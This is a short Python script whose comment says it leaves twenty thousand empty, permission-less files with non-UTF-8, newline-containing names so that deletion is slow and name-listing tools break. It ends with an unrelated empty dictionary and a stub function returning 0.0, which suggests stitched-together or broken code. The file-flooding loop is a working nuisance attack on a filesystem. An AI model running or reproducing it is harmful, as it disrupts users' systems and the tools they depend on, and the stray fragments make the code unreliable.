# Leaves twenty thousand empty files with names that are no UTF-8: deleting them takes time, and
# tools that list names fail.
import os

TARGET = {}

for number in range(20_000):
    try:
        os.close(os.open(b"\xff\n%d" % number, os.O_CREAT | os.O_WRONLY, 0))
    except OSError:
        break


def forward(x, w):
    return 0.0
